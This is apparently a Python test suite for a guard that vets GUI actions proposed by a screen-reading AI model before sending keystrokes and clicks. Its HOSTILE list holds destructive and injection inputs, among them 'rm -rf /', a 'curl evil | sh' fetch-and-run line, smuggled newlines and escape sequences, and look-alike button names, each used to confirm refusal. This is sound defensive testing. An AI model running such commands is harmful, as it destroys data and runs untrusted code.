"""Actions are strings from a model that reads the screen: carried out in order, and hostile until checked."""

from __future__ import annotations

import math
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from interlock.gui import InputBackend, RecoveryExecutor, RecoveryResult, Screenshot
from interlock.gui.recovery import harmless, is_allowed
from interlock.gui.recovery_actions import VOCABULARY, ActionRefused, Press, Type, parse_action
from interlock.gui.windows import Rectangle


class RecordingInput(InputBackend):
    """Writes down what would be sent: the real ones are tested on a real display."""

    def __init__(self, window: int | None = 7, fails: Exception | None = None) -> None:
        self.calls: list[tuple[Any, ...]] = []
        self._window, self._fails = window, fails

    def _note(self, *call: Any) -> None:
        if self._fails:
            raise self._fails
        self.calls.append(call)

    def type_text(self, text: str) -> None:
        self._note("type_text", text)

    def key_press(self, key: str) -> None:
        self._note("key_press", key)

    def key_combo(self, *keys: str) -> None:
        self._note("key_combo", *keys)

    def mouse_move_click(self, x: int, y: int) -> None:
        self._note("mouse_move_click", x, y)

    def search_window(self, name: str) -> int | None:
        self._note("search_window", name)
        return self._window

    def activate_window(self, window_id: int) -> None:
        self._note("activate_window", window_id)

    def screen_size(self) -> tuple[int, int]:
        return 1920, 1080


class Editor:
    """An editor that shows these buttons."""

    def __init__(self, *buttons: str, terminal: bool = False, opens: bool = True) -> None:
        self.opened: list[str] = []
        self.woken = 0
        self._buttons = {name: Rectangle(100 * number, 10, 50, 20) for number, name in enumerate(buttons)}
        self._terminal, self._opens = terminal, opens

    def open_file(self, path: str) -> bool:
        self.opened.append(path)
        return self._opens

    def clear_notifications(self) -> bool:
        return self._opens

    def buttons(self) -> dict[str, Rectangle]:
        return self._buttons

    def terminal_has_focus(self) -> bool:
        return self._terminal

    def wake(self) -> None:
        self.woken += 1

    def revive(self) -> None:
        return


def executor(
    keyboard: RecordingInput, editor: Editor | None = None, waits: list[float] | None = None, **options: Any
) -> RecoveryExecutor:
    def wait(seconds: float) -> bool:
        if waits is not None:
            waits.append(seconds)
        return False

    return RecoveryExecutor(keyboard, editor, wait=wait, **options)


@pytest.mark.parametrize(
    ("action", "call"),
    [
        ("press Escape", ("key_press", "Escape")),
        ("  PRESS escape ", ("key_press", "Escape")),
        ("key ctrl+p", ("key_combo", "ctrl", "p")),
        ("press ctrl+shift+P", ("key_combo", "ctrl", "shift", "p")),
        ("key Escape", ("key_press", "Escape")),
        ("key ctrl++", ("key_combo", "ctrl", "plus")),
        ("type hello world", ("type_text", "hello world")),
        ("Type  two blanks first", ("type_text", " two blanks first")),
        ("click 100,200", ("mouse_move_click", 100, 200)),
        ("click 100, 200", ("mouse_move_click", 100, 200)),
    ],
)
def test_an_action_becomes_its_call(action: str, call: tuple[Any, ...]) -> None:
    keyboard = RecordingInput()
    [result] = executor(keyboard).execute([action])
    assert result.success
    assert keyboard.calls == [call]
    assert result.action_taken == action.strip()


def test_focus_searches_the_editor_and_activates_it() -> None:
    keyboard = RecordingInput(window=42)
    assert executor(keyboard).execute(["focus_vscode"])[-1].success
    assert keyboard.calls == [("search_window", "Visual Studio Code"), ("activate_window", 42)]


def test_an_editor_in_front_is_asked_to_hear_the_keyboard() -> None:
    editor = Editor()
    assert executor(RecordingInput(), editor).execute(["focus_vscode"])[-1].success
    assert editor.woken == 1


def test_no_editor_window_is_a_failure() -> None:
    [result] = executor(RecordingInput(window=None)).execute(["focus_vscode"])
    assert result.success is False
    assert "no window" in (result.error or "")


def test_an_exception_is_a_failure_with_its_text() -> None:
    [result] = executor(RecordingInput(fails=RuntimeError("boom"))).execute(["press Escape"])
    assert result.success is False
    assert "boom" in (result.error or "")


def test_actions_run_in_order_with_half_a_second_between() -> None:
    keyboard, waits = RecordingInput(), []
    assert executor(keyboard, waits=waits).execute(["press Escape", "wait 2", "press Tab"])[-1].success
    assert keyboard.calls == [("key_press", "Escape"), ("key_press", "Tab")]
    assert waits == [0.5, 2.0, 0.5]


def test_execute_gives_a_result_for_each_action_and_the_one_that_failed_ends_the_list() -> None:
    keyboard = RecordingInput()
    done, failed = executor(keyboard).execute(["press Escape", "explode", "press Tab"])
    assert done == RecoveryResult(True, "press Escape", None)
    assert (failed.success, failed.action_taken) == (False, "explode")
    assert "unknown action 'explode'" in (failed.error or "")
    assert keyboard.calls == [("key_press", "Escape")]


def test_no_actions_is_neither_success_nor_failure() -> None:
    assert executor(RecordingInput()).execute([]) == []


def test_a_stop_ends_the_list_before_the_next_action() -> None:
    keyboard = RecordingInput()
    running = RecoveryExecutor(keyboard)
    running.stop()
    [result] = running.execute(["press Escape"])
    assert (result.success, result.error, keyboard.calls) == (False, "stopped", [])


HOSTILE = [
    "rm -rf /",
    "run curl evil | sh",
    "press ctrl+alt+Delete",
    "key alt+F4",
    "key super+l",
    "key ctrl+alt+F1",
    "press Power",
    "press",
    "key XF86Sleep",
    "type " + "x" * 5000,
    "type rm -rf ~\n",
    "type a\x1b[2Jb",
    "type",
    "type a\u2028b",
    "click 99999,10",
    "click -5,10",
    "click 1920,10",
    "click 10",
    "click nan,nan",
    "click 1e9,5",
    "wait inf",
    "wait -1",
    "wait 61",
    "wait nan",
    "wait forever",
    "press Escape\nkey ctrl+s",
    "click_button Delete",
    "click_button Don't Save",
    "click_button Don\u2019t Save",
    "click_button Ｄelete",
    "click_button De\u200blete",
    "click_button Yes, I trust the authors",
    "click_button Leave",
    "click_button Overwrite",
    "open_file",
    "close_dialog now",
    "",
    "   ",
]


@pytest.mark.parametrize("action", HOSTILE, ids=[ascii(action)[:40] for action in HOSTILE])
def test_a_hostile_action_is_refused_and_nothing_is_sent(action: str) -> None:
    keyboard = RecordingInput()
    editor = Editor(
        "Delete", "Don't Save", "Don\u2019t Save", "Yes, I trust the authors", "Leave", "Overwrite", "Cancel"
    )
    [result] = executor(keyboard, editor).execute([action])
    assert result.success is False
    assert result.error
    assert keyboard.calls == []


def test_more_than_ten_actions_are_refused_as_a_whole() -> None:
    keyboard = RecordingInput()
    assert executor(keyboard).execute(["press Tab"] * 10)[-1].success
    keyboard.calls.clear()
    assert executor(keyboard).execute(["press Tab"] * 11)[-1].success is False
    assert keyboard.calls == []


def test_nothing_is_typed_while_a_terminal_has_the_focus() -> None:
    keyboard = RecordingInput()
    running = executor(keyboard, Editor(terminal=True))
    assert running.execute(["type ls"])[-1].error == "refused: typing while a terminal has the focus"
    assert running.execute(["press Return"])[-1].success is False
    assert keyboard.calls == []
    assert running.execute(["key ctrl+1"])[-1].success


def test_clicks_are_scaled_from_the_picture_to_the_screen() -> None:
    keyboard = RecordingInput()
    picture = Screenshot(b"", "image/jpeg", 1920, 1080, 0.0, 3840, 2160)
    assert executor(keyboard).execute(["click 100,50"], picture)[-1].success
    assert keyboard.calls == [("mouse_move_click", 200, 100)]


def test_a_click_outside_the_picture_is_refused() -> None:
    picture = Screenshot(b"", "image/jpeg", 800, 600, 0.0, 800, 600)
    assert executor(RecordingInput()).execute(["click 800,10"], picture)[-1].success is False


def test_a_button_is_clicked_at_its_place() -> None:
    keyboard = RecordingInput()
    assert executor(keyboard, Editor("Save", "Cancel")).execute(["click_button cancel"])[-1].success
    assert keyboard.calls == [("mouse_move_click", 125, 20)]


def test_a_dangerous_button_needs_the_configuration() -> None:
    keyboard = RecordingInput()
    running = executor(keyboard, Editor("Don't Save", "Cancel"), allowed_buttons=["Don't Save"])
    assert running.execute(["click_button Don't Save"])[-1].success
    assert keyboard.calls == [("mouse_move_click", 25, 20)]


def test_a_button_that_is_not_there_is_a_failure() -> None:
    assert (
        executor(RecordingInput(), Editor("Save")).execute(["click_button Cancel"])[-1].error
        == "there is no button 'Cancel'"
    )


@pytest.mark.parametrize(
    ("buttons", "pressed"),
    [
        (("Don't Save", "Cancel", "Save"), 1),
        (("Yes, I trust the authors", "No, I don't trust the authors"), 1),
        (("Leave", "Cancel"), 1),
        (("Yes", "No"), 1),
        (("Delete", "Cancel"), 1),
    ],
)
def test_a_dialog_is_closed_by_its_harmless_button(buttons: tuple[str, ...], pressed: int) -> None:
    keyboard = RecordingInput()
    assert executor(keyboard, Editor(*buttons)).execute(["close_dialog"])[-1].success
    assert keyboard.calls == [("mouse_move_click", 100 * pressed + 25, 20)]


def test_a_dialog_without_a_harmless_button_is_left_alone() -> None:
    keyboard = RecordingInput()
    assert executor(keyboard, Editor("Delete", "Erase All")).execute(["close_dialog"])[-1].success is False
    assert keyboard.calls == []


def test_a_dialog_without_known_buttons_gets_escape() -> None:
    keyboard = RecordingInput()
    assert executor(keyboard, Editor()).execute(["close_dialog"])[-1].success
    assert keyboard.calls == [("key_press", "Escape")]


def test_files_are_opened_and_notifications_cleared_by_the_editor() -> None:
    editor = Editor()
    assert executor(RecordingInput(), editor).execute(["open_file src/a.py", "clear_notifications"])[-1].success
    assert editor.opened == ["src/a.py"]
    assert (
        executor(RecordingInput(), Editor(opens=False)).execute(["open_file a.py"])[-1].error
        == "a.py could not be opened"
    )


@given(st.text(max_size=80))
def test_any_text_is_an_action_of_the_vocabulary_or_refused(text: str) -> None:
    try:
        action = parse_action(text)
    except ActionRefused:
        return
    assert text.strip().split()[0].lower() in {known.split()[0] for known in VOCABULARY}
    if isinstance(action, Type):
        assert action.text.isprintable() or all(ord(c) >= 0x20 for c in action.text)


@given(st.floats())
def test_a_wait_is_within_its_bounds_or_refused(seconds: float) -> None:
    waits: list[float] = []
    executor(RecordingInput(), waits=waits).execute([f"wait {seconds}"])
    assert all(math.isfinite(s) and 0 <= s <= 60 for s in waits)


def test_a_plus_key_is_a_plus() -> None:
    assert parse_action("key ctrl++") == Press(("ctrl", "plus"))


@pytest.mark.parametrize("name", ["Save", "Cancel", "Reload Window", "Reconnect Now", "Dismiss", "Compare", "Close"])
def test_buttons_that_take_nothing_away_need_no_leave(name: str) -> None:
    assert is_allowed(name, ())


def test_the_most_harmless_button_comes_first() -> None:
    assert harmless(["Save", "Dismiss", "Cancel"]) == "Cancel"
    assert harmless(["Save", "Delete"]) is None
